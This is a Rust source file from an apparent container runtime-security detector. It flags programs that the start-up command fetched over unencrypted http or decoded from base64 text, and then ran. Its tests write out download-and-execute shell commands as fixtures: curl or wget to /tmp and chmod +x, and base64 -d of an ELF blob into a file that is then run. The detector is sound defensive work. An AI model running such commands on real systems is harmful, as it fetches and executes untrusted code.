//! Files that the container's own command fetched without encryption, or decoded from its text,
//! before it ran them.

use bstr::ByteSlice as _;

use super::data_sources::{decodes, fetches};
use super::script_paths::locate_from;
use crate::catalog;
use crate::detect::program_roles;
use crate::detect::rule_context::RuleContext;
use crate::event::Bytes;
use crate::state::ProcessEntry;

/// Maximum number of files through which the origin of a file is followed: an archive, a copy.
const MAX_STEPS: usize = 3;
/// A run of letters and digits from this length on is encoded data, not a word.
const ENCODED: usize = 24;

/// How the file at `path` came into the container, as a line of a finding. `None`: not by a
/// download or from encoded text, or by a download that cannot be changed on its way.
pub(super) fn of(ctx: &RuleContext<'_>, path: &[u8]) -> Option<String> {
    let mut at = path.to_vec();
    for _ in 0..MAX_STEPS {
        let writer = ctx.writer(ctx.activity(&at)?)?;
        if let Some(how) = brought_by(ctx, writer).or_else(|| redirected(ctx, writer, &at)) {
            return Some(how);
        }
        at = source(ctx, writer, &at)?;
    }
    None
}

/// The process fetched the data that it wrote, or decoded it.
fn brought_by(ctx: &RuleContext<'_>, writer: &ProcessEntry) -> Option<String> {
    let name = program_roles::of(writer);
    let command = || program_roles::command_line(&writer.argv, &writer.exe, 160);
    if ctx.names().is_downloader(name) || fetches(ctx.names(), name, &writer.argv) {
        let encrypted = |a: &Bytes| a.contains_str("https://");
        let plain = |a: &Bytes| a.contains_str("http://");
        let safe = writer.argv.iter().any(encrypted) && !writer.argv.iter().any(plain);
        return (!safe).then(|| format!("fetched without https by: {}", command()));
    }
    let text = text_above(ctx, writer)?;
    if decodes(ctx.names(), name, &writer.argv) && has_encoded_data(text) {
        return Some(format!(
            "decoded from the command's own text by: {}",
            command()
        ));
    }
    // The end of a pipe that begins with a download: `curl … | tar -x`.
    let own = program_roles::leaf(writer.argv.first()?);
    let piped = |statement: &[u8]| {
        let mut parts = statement.split(|b| *b == b'|').skip(1);
        let first = |part: &[u8]| {
            let mut words = part.trim_start().split(|b| b.is_ascii_whitespace());
            words.next().map(<[u8]>::to_vec).unwrap_or_default()
        };
        statement.contains_str("http://")
            && has_program(statement, |name| ctx.names().is_downloader(name))
            && parts.any(|part| program_roles::leaf(&first(part)) == own)
    };
    let through = statements(text).any(piped);
    through.then(|| format!("fetched without https through: {}", command()))
}

/// The statements of a shell's text, roughly: quotes are not followed.
fn statements(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    text.split(|b| matches!(b, b';' | b'\n'))
}

/// The shell opened the file for the output of a download or a decoder: `curl … >/tmp/x`.
fn redirected(ctx: &RuleContext<'_>, writer: &ProcessEntry, path: &[u8]) -> Option<String> {
    let text = program_roles::shell_text(&writer.argv)
        .filter(|_| ctx.names().is_shell(program_roles::of(writer)))?;
    let file = program_roles::leaf(path);
    let opens = |statement: &&[u8]| {
        let mut redirections = statement.find_iter(b">");
        redirections.any(|at| {
            let rest = statement.get(at + 1..).unwrap_or_default();
            let word = rest.trim_start().split(|b| b.is_ascii_whitespace()).next();
            let word = word
                .unwrap_or_default()
                .trim_with(|c| matches!(c, '"' | '\'' | ')'));
            program_roles::leaf(word) == file
        })
    };
    let statement = statements(text).find(opens)?;
    let shown = crate::event::escape(statement.trim());
    let decoder = |name: &[u8]| catalog::programs::DECODERS.contains(&without_digits(name));
    if statement.contains_str("http://")
        && has_program(statement, |name| ctx.names().is_downloader(name))
    {
        return Some(format!("fetched without https by: {shown}"));
    }
    let decoded = statement.contains_str(" -d") && has_program(statement, decoder);
    (decoded && has_encoded_data(text))
        .then(|| format!("decoded from the command's own text by: {shown}"))
}

/// The name of a decoder as the table has it: `base64` is `base`.
fn without_digits(name: &[u8]) -> &[u8] {
    name.trim_end_with(|c| c.is_ascii_digit())
}

/// A program that passes the test is among the words of the text.
fn has_program(text: &[u8], test: impl Fn(&[u8]) -> bool) -> bool {
    let ends = |b: &u8| b.is_ascii_whitespace() || matches!(b, b';' | b'(' | b'|' | b'`');
    let mut words = text.split(ends);
    words.any(|word| test(program_roles::leaf(word)))
}

/// The text of the shell that started the process.
fn text_above<'a>(ctx: &RuleContext<'a>, process: &ProcessEntry) -> Option<&'a [u8]> {
    let mut above = ctx.state.parent_of(process);
    for _ in 0..MAX_STEPS {
        let shell = above?;
        let text = program_roles::shell_text(&shell.argv);
        if ctx.names().is_shell(program_roles::of(shell)) && text.is_some() {
            return text;
        }
        above = ctx.state.parent_of(shell);
    }
    None
}

/// Whether the text contains data in base64 or hexadecimal digits.
fn has_encoded_data(text: &[u8]) -> bool {
    let inside = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'=');
    let mut runs = text.split(|b| !inside(*b));
    runs.any(|run| run.len() >= ENCODED)
}

/// Another file from which a program that copies, moves or unpacks made this one.
fn source(ctx: &RuleContext<'_>, writer: &ProcessEntry, path: &[u8]) -> Option<Vec<u8>> {
    let mut arguments = writer.argv.iter().skip(1).rev();
    arguments.find_map(|argument| {
        let argument = argument.strip_prefix(b"if=").unwrap_or(argument);
        let other = locate_from(ctx, &writer.cwd, argument)?;
        (other != path && ctx.activity(&other).is_some()).then_some(other)
    })
}

#[cfg(test)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;

    const BLOB: &str = "echo f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA | base64 -d >/tmp/x; /tmp/x";

    /// A start-up command with this text writes a program with `writer` and runs it.
    fn runs(text: &str, writer: &[&str]) -> Severity {
        let mut w = World::starting();
        let init = w.init();
        w.exec_as(init, 1, "/bin/sh", &["sh", "-c", text], |_| {});
        let by = w.exec(init, &format!("/usr/bin/{}", writer[0]), writer);
        w.create(by, "/tmp/x");
        w.exit(by);
        w.exec_new(init, "/tmp/x");
        w.highest()
    }

    #[test]
    fn programs_that_the_start_fetched_or_decoded() {
        let curl = |url| runs("x", &["curl", "-o", "/tmp/x", url]);
        assert_eq!(curl("http://203.0.113.9/x"), Severity::Medium);
        assert_eq!(curl("https://get.example/x"), Severity::Info);
        assert_eq!(runs("x", &["nc", "203.0.113.9", "80"]), Severity::Medium);
        assert_eq!(runs(BLOB, &["base64", "-d"]), Severity::Medium);
        let text = "echo \"$CONFIG\" | base64 -d >/tmp/x; sh /tmp/x";
        assert_eq!(runs(text, &["base64", "-d"]), Severity::Info);
        let text = "curl -s http://203.0.113.9/x.gz | gunzip >/tmp/x; /tmp/x";
        assert_eq!(runs(text, &["gunzip"]), Severity::Medium);
        let text = "curl -s http://127.0.0.1/ready | grep ok; cp /usr/bin/tool /tmp/x; /tmp/x";
        assert_eq!(
            runs(text, &["cp", "/usr/bin/tool", "/tmp/x"]),
            Severity::Info
        );
    }

    #[test]
    fn a_shell_that_opens_the_file_for_a_download() {
        for (text, severity) in [
            (
                "curl -s http://203.0.113.9/p >/tmp/x; chmod +x /tmp/x; /tmp/x",
                Severity::Medium,
            ),
            (
                "wget -qO- http://h/p > /tmp/x && chmod +x /tmp/x && /tmp/x",
                Severity::Medium,
            ),
            (
                "curl -s https://get.example/p >/tmp/x; /tmp/x",
                Severity::Info,
            ),
            (
                "curl -s http://h/ready >/tmp/y; cat /usr/bin/a >/tmp/x; /tmp/x",
                Severity::Info,
            ),
        ] {
            let mut w = World::starting();
            let init = w.init();
            w.exec_as(init, 1, "/bin/sh", &["sh", "-c", text], |_| {});
            w.create(init, "/tmp/x");
            w.exec_new(init, "/tmp/x");
            assert_eq!(w.highest(), severity, "{text}");
        }
    }

    #[test]
    fn moved_after_the_download_and_run_after_the_start() {
        let mut w = World::starting();
        let init = w.init();
        let curl = ["curl", "-o", "/tmp/y", "http://203.0.113.9/x"];
        let curl = w.exec(init, "/usr/bin/curl", &curl);
        w.create(curl, "/tmp/y");
        w.exit(curl);
        let mv = w.exec(init, "/bin/mv", &["mv", "/tmp/y", "/usr/local/bin/y"]);
        w.rename(mv, "/tmp/y", "/usr/local/bin/y");
        w.ticks(60);
        w.exec_new(init, "/usr/local/bin/y");
        let found = w.finding("drift.exec-new");
        assert_eq!(found.severity, Severity::Medium);
        let why = found.why.join("\n");
        assert!(why.contains("fetched without https by: curl"), "{why}");
    }

    #[test]
    fn a_script_that_the_start_fetched() {
        for (url, severity) in [
            ("http://203.0.113.9/a.sh", Severity::Medium),
            ("https://get.example/a.sh", Severity::Info),
        ] {
            let mut w = World::starting();
            let init = w.init();
            let wget = w.exec(init, "/usr/bin/wget", &["wget", "-O", "/tmp/a", url]);
            w.create(wget, "/tmp/a");
            w.exec(init, "/bin/sh", &["sh", "/tmp/a"]);
            assert_eq!(w.highest(), severity, "{url}");
        }
    }
}
